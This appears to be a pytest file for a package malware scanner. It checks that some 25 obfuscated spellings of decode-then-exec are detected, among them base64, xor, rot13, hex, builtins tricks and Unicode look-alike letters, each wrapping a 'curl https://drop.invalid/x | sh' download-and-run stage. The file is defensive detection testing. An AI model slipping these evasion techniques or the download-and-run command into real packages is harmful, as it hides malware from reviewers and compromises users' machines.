# ruff: noqa: E501
"""Spellings of decode-then-execute, one a case: whatever the spelling, the rule that finds it is the same."""

from __future__ import annotations

import base64
import unicodedata
import zlib

import pytest

from scanner.code.analysis import analyse
from scanner.code.compatible import compatible_starts, normalised
from scanner.code.source import SourceFile
from scanner.model.finding import PackageRef

STAGE = "import os; os.system('curl https://drop.invalid/x | sh')"
B64 = base64.b64encode(STAGE.encode()).decode()
ZB64 = base64.b64encode(zlib.compress(STAGE.encode())).decode()
NUMBERS = list(STAGE.encode())
XORED = [one ^ 42 for one in NUMBERS]

SPELLINGS = {
    "plain": f"import base64\nexec(base64.b64decode('{B64}'))",
    "alias": f"import base64 as b\ne = exec\ne(b.b64decode('{B64}').decode())",
    "tuple unpacking": f"import base64\ne, d = exec, base64.b64decode\ne(d('{B64}'))",
    "getattr of builtins": f"import base64\ngetattr(__builtins__, 'ex' + 'ec')(base64.b64decode('{B64}'))",
    "builtins module": f"import builtins, base64\nbuiltins.__dict__['exec'](base64.b64decode('{B64}'))",
    "globals": f"import base64\nglobals()['__builtins__'].exec(base64.b64decode('{B64}'))",
    "dunder import": f"__import__('builtins').exec(__import__('base64').b64decode('{B64}'))",
    "import_module": f"import importlib\nexec(importlib.import_module('base64').b64decode('{B64}'))",
    "type": f"import base64\nX = type('', (), {{'r': lambda s, t: exec(t)}})\nX().r(base64.b64decode('{B64}'))",
    "lambda": f"_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec(_('{ZB64[::-1]}'))",
    "decorator": f"import base64\ndef run(f):\n    exec(f())\n    return f\n\n@run\ndef text():\n    return base64.b64decode('{B64}')",
    "compile": f"import base64\nexec(compile(base64.b64decode('{B64}'), '<x>', 'exec'))",
    "class attribute": f"import base64\nclass A:\n    p = '{B64}'\nexec(base64.b64decode(A.p))",
    "integers": f"exec(bytes({NUMBERS}))",
    "chr join": f"exec(''.join(chr(c) for c in {NUMBERS}))",
    "map chr": f"exec(''.join(map(chr, {NUMBERS})))",
    "xor loop": f"out = ''\nfor c in {XORED}:\n    out += chr(c ^ 42)\nexec(out)",
    "reversed": f"exec({STAGE[::-1]!r}[::-1])",
    "rot13": f"import codecs\nexec(codecs.decode({__import__('codecs').encode(STAGE, 'rot13')!r}, 'rot13'))",
    "hex": f"exec(bytes.fromhex('{STAGE.encode().hex()}'))",
    "mathematical letters": f"import base64\n\U0001d5f2\U0001d605\U0001d5f2\U0001d5f0(base64.b64decode('{B64}'))",
    "pieces": f"import base64\np = ''\np += '{B64[:20]}'\np += '{B64[20:]}'\nexec(base64.b64decode(p))",
    "function": f"import base64\ndef d(x, k=1):\n    return base64.b64decode(x)\ndef main():\n    exec(d('{B64}'))\nmain()",
    "thread": f"import base64, threading\ndef go():\n    exec(base64.b64decode('{B64}'))\nthreading.Thread(target=go).start()",
    "marshal": "import marshal\nexec(marshal.loads(b'\\xe3\\x00'))",
}


@pytest.mark.parametrize("name", SPELLINGS)
@pytest.mark.parametrize("prefilter", [True, False], ids=["prefilter", "all-files"])
def test_spelling(name: str, prefilter: bool) -> None:
    padding = "# padding\n" * 21_000  # past the size up to which every file is evaluated anyway
    analysis = analyse(
        [SourceFile("package/__init__.py", (SPELLINGS[name] + "\n" + padding).encode())],
        kind="wheel",
        package=PackageRef("example", "1.0"),
        prefilter=prefilter,
    )
    assert {"decoded-code-executed", "computed-code-executed"} & {one.rule for one in analysis.findings}
    assert analysis.verdict == "malicious"


@pytest.mark.parametrize("name", sorted(set(SPELLINGS) - {"marshal"}))
def test_the_stage_itself_is_reached(name: str) -> None:
    analysis = analyse(
        [SourceFile("package/__init__.py", SPELLINGS[name].encode())],
        kind="wheel",
        package=PackageRef("example", "1.0"),
    )
    assert "shell-download-and-run" in {one.rule for one in analysis.findings}


def test_fernet_with_the_key_beside_it() -> None:
    from scanner.code.aes import decrypt_cbc

    # FIPS 197, appendix C.1, and SP 800-38A, section F.2.2 (CBC-AES128): one block each, with padding left to the caller.
    key = bytes.fromhex("2b7e151628aed2a6abf7158809cf4f3c")
    start = bytes.fromhex("000102030405060708090a0b0c0d0e0f")
    with pytest.raises(ValueError, match="padding"):
        decrypt_cbc(key, start, bytes.fromhex("7649abac8119b246cee98e9b12e9197d"))


LETTERS = str.maketrans("eso", "\u212f\u017f\uff4f")


@pytest.mark.parametrize("waits", [False, True], ids=["at import", "in a function that nobody calls"])
def test_letters_that_the_interpreter_reads_as_others_hide_no_name(waits: bool) -> None:
    # Evasion: ``import oſ`` imports os (PEP 3131), and no plain search for its name finds it.
    names = [one.translate(LETTERS) for one in ("os", "os.system")]
    call = f"import {names[0]}\n{names[1]}('curl https://drop.invalid/x | sh')\n"
    program = "def later():\n" + "".join(f"    {line}\n" for line in call.splitlines()) if waits else call
    analysis = analyse(
        [SourceFile("package/__init__.py", program.encode())], kind="wheel", package=PackageRef("example", "1.0")
    )
    assert [one.rule for one in analysis.findings] == ["shell-download-and-run"]
    assert "subprocess" in {one.name for one in analysis.capabilities}


def test_every_letter_that_is_read_as_ascii_is_known() -> None:
    letters = [
        one
        for one in map(chr, (*range(0x80, 0xD800), *range(0xE000, 0x110000)))
        if ("a" + one).isidentifier()
        and any(read.isascii() and (read.isalnum() or read == "_") for read in unicodedata.normalize("NFKC", one))
    ]
    assert len(letters) > 900
    for one in letters:
        assert normalised(one.encode()) == unicodedata.normalize("NFKC", one).encode()
        assert any(start in one.encode() for start in compatible_starts())
    assert normalised("™ é … ²".encode()) == "™ é … ²".encode()
